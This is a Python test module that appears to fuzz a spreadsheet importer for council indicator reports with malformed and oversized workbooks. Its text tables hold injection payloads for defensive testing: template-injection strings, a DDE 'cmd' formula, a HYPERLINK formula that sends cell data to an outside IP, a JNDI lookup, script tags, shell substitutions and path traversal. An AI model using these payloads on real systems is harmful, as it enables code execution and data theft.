    yield Hostile("a sheet name twice", lambda: _named("Indicators", "Report", "Indicators"), ("Indicators", "twice"))
    yield Hostile(
        "a sheet name twice but for case", lambda: _named("Indicators", "Report", "INDICATORS"), ("INDICATORS", "twice")
    )
    yield Hostile("a sheet without a name", lambda: _named("Report", "Indicators", ""), (), AS_TYPED)
    for name in ("../x", "a&amp;b", "&#x202e;moc", "{{ 7*7 }}", "x" * 5_000, "'quoted'", "[1]"):
        yield Hostile(
            f"a sheet named {name[:20]}", lambda name=name: _named("Report", "Indicators", name), (), AS_TYPED
        )
    yield Hostile(
        "three hundred sheets", lambda: _named("Report", "Indicators", *(f"S{n}" for n in range(300))), (), AS_TYPED
    )
    yield Hostile("a large sheet beside", _large_beside, (), AS_TYPED, alone=True)
    yield Hostile(
        "a view of nonsense",
        lambda: with_part(
            WORKBOOK,
            workbook_part(
                ("Report", "Indicators"), '<bookViews><workbookView activeTab="99" firstSheet="x"/></bookViews>'
            ),
        ),
        either=True,
    )
    yield Hostile(
        "names of nonsense",
        lambda: changed(
            WORKBOOK,
            "</sheets>",
            '</sheets><definedNames><definedName name="_xlnm.Print_Area" localSheetId="77">nonsense!!A1</definedName></definedNames>',
        ),
        (),
        AS_TYPED,
    )
    yield Hostile("a number format of nonsense", lambda: changed(STYLES, "dd/mm/yyyy", "[[[[;;;;\\\\\\"), (), AS_TYPED)
    yield Hostile(
        "properties of nonsense",
        lambda: package(
            good()
            | {
                "docProps/core.xml": b"<x>",
                "[Content_Types].xml": content_types().replace(
                    b"</Types>",
                    b'<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
                ),
                "_rels/.rels": relations(("officeDocument", WORKBOOK)),
            }
        ),
        either=True,
    )


def _named(*sheet_names: str) -> bytes:
    """Sheets of these names; the parts of the first are the Report's unless its name says otherwise."""
    parts = good() | {WORKBOOK: workbook_part(sheet_names), "[Content_Types].xml": content_types(len(sheet_names))}
    known = {"report": good()[REPORT_SHEET], "indicators": good()[INDICATORS_SHEET]}
    for at, name in enumerate(sheet_names, start=1):
        parts[f"xl/worksheets/sheet{at}.xml"] = known.get(name.casefold(), sheet(row(1, ("x",))))
    targets = [("worksheet", f"worksheets/sheet{at}.xml") for at in range(1, len(sheet_names) + 1)]
    parts["xl/_rels/workbook.xml.rels"] = relations(
        *targets, ("styles", "styles.xml"), ("sharedStrings", "sharedStrings.xml")
    )
    return package(parts)


def _chart_sheet() -> bytes:
    chart = f'{HEAD}<chartsheet xmlns="{MAIN}"><sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>'.encode()
    parts = good() | {WORKBOOK: workbook_part(("Chart",)), "xl/chartsheets/sheet1.xml": chart}
    parts["xl/_rels/workbook.xml.rels"] = relations(("chartsheet", "chartsheets/sheet1.xml"))
    return package(parts)


def _large_beside() -> bytes:
    data = _named("Report", "Indicators", "Raw data")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    line = "".join(f"<c><v>{n}</v></c>" for n in range(100))
    parts["xl/worksheets/sheet3.xml"] = sheet(f"<row>{line}</row>" * 40_000)
    return package(parts)


# Texts


MARKS = {
    "template sums": "{{ 7*7 }}",
    "template loops": "{% for x in range(9) %}{{ x }}{% endfor %}",
    "template classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a template remark": "{# remark #} {#",
    "an unclosed template": "{{ {% if {%p",
    "a formula": "=1+1",
    "a program's call": "=cmd|' /C calc'!A0",
    "a link formula": '=HYPERLINK("http://203.0.113.1/?"&A1,"Click")',
    "a plus": "+1+1",
    "a minus": "-2+3+cmd",
    "an at": "@SUM(1+1)",
    "Word's XML": "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "entities": "&amp; &lt; &#x41; &nbsp;",
    "the end of CDATA": "]]>",
    "quotes": "\"'`\u201c\u201d",
    "printf": "%s %n %x {0.__class__} ${jndi:ldap://x}",
    "a script": "<script>alert(1)</script>",
    "zero width": "a\u200bb\u2060c\ufeffd",
    "bidi overrides": "\u202eevil\u202c \u2066x\u2069",
    "Hebrew and Arabic": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "Chinese and Japanese": "\u59d4\u54e1\u4f1a\u306e\u5831\u544a",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ec\U0001f1e7",
    "piled marks": "Z" + "\u0351\u036b\u0343\u036a\u0302\u0308" * 30,
    "astral letters": "\U0001d400\U00010000\U0010fffd",
    "long digits": "9" * 2_000,
    "many brackets": "(" * 2_000,
    "many blanks": "14" + " " * 5_000 + "x",
    "many commas": "1,000," * 500 + "x",
    "many hyphens": "not due " * 300 + "-",
    "many pers": "14 per 1" + "0" * 1_000 + "x",
    "other digits": "\u0661\u0664 \uff11\uff14 \u00b2 \u00bd",
    "line breaks": "\n".join(f"line {number}" for number in range(300)),
    "one long word": "Donaudampfschifffahrt" * 100,
}
ESCAPES = {
    "escaped NUL": "a_x0000_b",
    "escaped lone surrogate": "a_xD800_b",
    "escaped pair": "_xD83D__xDE00_",
    "escaped not a letter": "a_xFFFE_b",
    "escaped escape": "a_x005F_x0041_b",
    "escaped bell": "a_x0007_b",
    "escaped return": "a_x000D_b",
    "not quite escaped": "_x00_ _xZZZZ_ _x0041",
}


def texts() -> Iterator[Hostile]:
    """Odd texts in every place for a text, and as a value and a target."""
    for name, text in (MARKS | ESCAPES).items():
        as_a_name = len(text) <= LONGEST_NAME
        said, drafts = ((), (text,)) if as_a_name else (("characters, a text and no Indicator",), ())
        yield Hostile(f"text: {name}", lambda text=text: typed(text), said, drafts)
        odd = ("3", "Odd one", "Bigger", text, text, text, "", "", "")
        yield Hostile(f"value: {name}", lambda odd=odd: with_rows(VISITS, BINS, odd), (), AS_TYPED)
    for column in ("Polarity", "Unit"):
        at = HEADERS.index(column)
        values = [*VISITS[:at], "{{ 7*7 }}", *VISITS[at + 1 :]]
        yield Hostile(
            f"template in {column}",
            lambda values=values: with_rows(values),
            ("Indicators!C2",) if column == "Polarity" else (),
            () if column == "Polarity" else AS_TYPED[:2],
        )
    longest = "Sentence after sentence. " * 1_400
    for name in ("comment", "name", "field"):
        yield Hostile(
            f"the longest {name}",
            lambda name=name: _longest(name, longest[:LONGEST].strip()),
            ("Indicators!B2",) if name == "name" else (),
            () if name == "name" else ("Sentence after sentence. " * 20,),
            alone=True,
        )
    yield Hostile(
        "ten thousand line breaks",
        lambda: with_rows(
            ("1", "Visits made", "Bigger", 12, 14, 15, "\n".join("abc"[n % 3] for n in range(10_000)), "More", "")
        ),
        (),
        ("Visits made",),
        alone=True,
    )


def _longest(where: str, text: str) -> bytes:
    if where == "field":
        return with_field("Policy context", text)
    if where == "name":
        return with_rows(("1", text, "Bigger", 12, 14, 15, "As planned", "More staff", ""))
    return with_rows(("1", "Visits made", "Bigger", 12, 14, 15, text, "More staff", ""))


# Names that are paths, and fields beyond reason


PATHS = (
    "../../etc/x", "..\\..\\x", "/etc/passwd", "C:\\Windows\\System32", "\\\\host\\share", "CON", "nul.txt", "aux", "a/b", "..", ".",
    "~", "$HOME", "%TEMP%", "`id`", "$(id)", "; rm -rf x", "name. . .", "  name  ", "x" * 300, "two\nlines", "tab\there", "null\u2400",
    "\u202etxt.exe", "file:///etc/passwd", "http://203.0.113.1/", "-rf", "*?<>|:\"", "\U0001f600" * 80, "{{ 7*7 }}", "COM1", "LPT9.log",
)  # fmt: skip


def names() -> Iterator[Hostile]:
    """Committees, titles and fields that are paths; periods and numbers beyond reason."""
    for path in PATHS:
        yield Hostile(f"committee {path[:20]!r}", lambda path=path: _committee(path), (), AS_TYPED)
    for path in ("../../etc/x", "C:\\Windows", "CON", "x" * 300, "two\nlines", "{{ 7*7 }}"):
        yield Hostile(f"subject {path[:20]!r}", lambda path=path: with_field("Subject", path), (), AS_TYPED)
        yield Hostile(f"council {path[:20]!r}", lambda path=path: with_field("Council", path), (), AS_TYPED)
        yield Hostile(f"ref {path[:20]!r}", lambda path=path: with_rows((path, *VISITS[1:]), BINS), (), AS_TYPED)
    for profile in (
        "../config/standard",
        "/etc/passwd",
        "standard.toml",
        "C:\\x",
        "{{ 7*7 }}",
        "x" * 32_000,
        ".",
        "standard\x0b",
    ):
        yield Hostile(
            f"profile {profile[:20]!r}",
            lambda profile=profile: with_field("Profile", profile.replace("\x0b", "_x000B_")),
            ("Report!B",) if profile != "standard\x0b" else (),
            () if profile != "standard\x0b" else AS_TYPED,
        )
    for period in (
        "2017/18 Q9",
        "9999",
        "0000/01 Q1",
        "2017/18 Q0",
        "9999/10000 Q1",
        "2017/18 M13",
        "1900/01",
        "Q2",
        "2017-18",
        "{{ 7*7 }}",
        "2017/18 Q" + "9" * 5_000,
        "Smarch 2017",
        "-2017/18 Q2",
        "\u0662\u0660\u0661\u0667/\u0661\u0668 Q\u0662",
    ):
        yield Hostile(f"period {period[:20]!r}", lambda period=period: with_field("Period", period), ("Report!B2",))
    for header in (
        "2099/00 Q1 actual",
        "1900/01 Q1 actual",
        "2017/18 Q2 actual " + "x" * 5_000,
        "2017/18 Q" + "2" * 4_000 + " actual",
        "2017/18 " * 800 + "actual",
    ):
        yield Hostile(f"header {header[:20]!r}", lambda header=header: _column(header, 9), (), AS_TYPED[:2])
    for column, value in (
        ("Decimals", "-1"), ("Decimals", "1e9"), ("Decimals", "NaN"), ("Decimals", "9" * 500), ("Decimals", "1e999999999"),
        ("Tolerance", "1e9%"), ("Tolerance", "-5%"), ("Tolerance", "5%/" * 500), ("Tolerance", "floor"), ("Tolerance", "NaN%"),
        ("Also reported order", "1e400"), ("Also reported order", "-1"), ("Series", "../x"), ("Outlook", "{{ 7*7 }}"), ("Equality relevant", "maybe"),
        ("Status", "Purple"), ("Status", "(" * 3_000), ("Also reported to", "Yes"),
    ):  # fmt: skip
        yield Hostile(
            f"{column} {value[:12]!r}", lambda column=column, value=value: _column(column, value), ("Indicators!J2",)
        )
    yield Hostile("a tolerance beyond reason", lambda: _column("Tolerance", "9" * 400 + "%"), either=True)
    yield Hostile(
        "a field twice",
        lambda: package(good() | {REPORT_SHEET: sheet(report_rows(REPORT) + row(20, ("Period", "2016/17 Q1")))}),
        ("Report!A20", "twice"),
    )


def _committee(name: str) -> bytes:
    rows: list[list[object]] = [[*HEADERS, "Committee"], [*VISITS, name], [*BINS, name]]
    xml = "".join(row(number, values) for number, values in enumerate(rows, start=1))
    return package(
        good() | {INDICATORS_SHEET: sheet(xml), REPORT_SHEET: sheet(report_rows(REPORT | {"Committee": name}))}
    )


def _column(header: str, value: object) -> bytes:
    """The good workbook with one more column J, which has this value in row 2."""
    rows: list[list[object]] = [[*HEADERS, header], [*VISITS, value], list(BINS)]
    return with_part(
        INDICATORS_SHEET, sheet("".join(row(number, values) for number, values in enumerate(rows, start=1)))
    )


# Sizes


def sizes() -> Iterator[Hostile]:
    """As much as can be typed, and more."""
    yield Hostile(
        "five thousand indicators",
        lambda: with_rows(*((str(n), f"Indicator {n}", "Bigger", n, n + 1, n, "", "", "") for n in range(4_990))),
        ("4,990 indicators",),
        alone=True,
    )
    yield Hostile(
        "three hundred indicators with comments",
        lambda: with_rows(
            *((str(n), f"Indicator {n}", "Bigger", n, n + 1, n, "As planned. " * 20, "", "") for n in range(300))
        ),
        (),
        ("Indicator 299",),
        alone=True,
    )
    yield Hostile(
        "twenty thousand indicators",
        lambda: with_rows(*((str(n), f"Indicator {n}", "Bigger", n, n + 1, n, "", "", "") for n in range(20_000))),
        ("Indicators",),
        alone=True,
    )
    yield Hostile("five hundred periods", _periods, (), ("Visits made",), alone=True)
    yield Hostile(
        "one ref a hundred times",
        lambda: with_rows(*(("1", f"Indicator {n}", "Bigger", 12, 14, 13, "", "", "") for n in range(100))),
        (),
        ("Indicator 99",),
        alone=True,
    )
    yield Hostile(
        "one name a hundred times",
        lambda: with_rows(*((str(n), "Visits made", "Bigger", 12, 14, 13, "", "", "") for n in range(100))),
        (),
        ("Visits made",),
        alone=True,
    )
    yield Hostile(
        "three hundred odd cells",
        lambda: with_rows(*((str(n), f"Indicator {n}", "Bigger", "?", "?", "?", "", "", "") for n in range(100))),
        (),
        ("Indicator 99",),
        alone=True,
    )
    yield Hostile(
        "three thousand rows of faults",
        lambda: with_rows(*((str(n), f"Indicator {n}", "Sideways", 12, 14, 13, "", "", "") for n in range(3_000))),
        ("Indicators!C3001",),
        alone=True,
    )
    yield Hostile("three thousand committees", _many_committees, (), AS_TYPED[:1], alone=True)
    yield Hostile(
        "three thousand fields",
        lambda: package(
            good() | {REPORT_SHEET: sheet(report_rows(REPORT | {f"Field {n}": "x" for n in range(3_000)}))}
        ),
        (),
        AS_TYPED,
        alone=True,
    )


def _periods() -> bytes:
    quarters = [f"{year}/{(year + 1) % 100:02d} Q{quarter}" for year in range(1901, 2018) for quarter in range(1, 5)]
    extra = [f"{quarter} actual" for quarter in quarters if quarter not in ("2017/18 Q1", "2017/18 Q2")]
    rows: list[list[object]] = [[*HEADERS, *extra], [*VISITS, *range(len(extra))], [*BINS, *range(len(extra))]]
    return with_part(
        INDICATORS_SHEET, sheet("".join(row(number, values) for number, values in enumerate(rows, start=1)))
    )


def _many_committees() -> bytes:
    rows: list[list[object]] = [
        [*HEADERS, "Committee"],
        [*VISITS, ""],
        *([str(n), f"Indicator {n}", "Bigger", 1, 2, 3, "", "", "", f"Committee {n}"] for n in range(3_000)),
    ]
    return package(
        good()
        | {
            INDICATORS_SHEET: sheet("".join(row(number, values) for number, values in enumerate(rows, start=1))),
            REPORT_SHEET: sheet(report_rows(REPORT | {"Committee": "Committee 7"})),
        }
    )
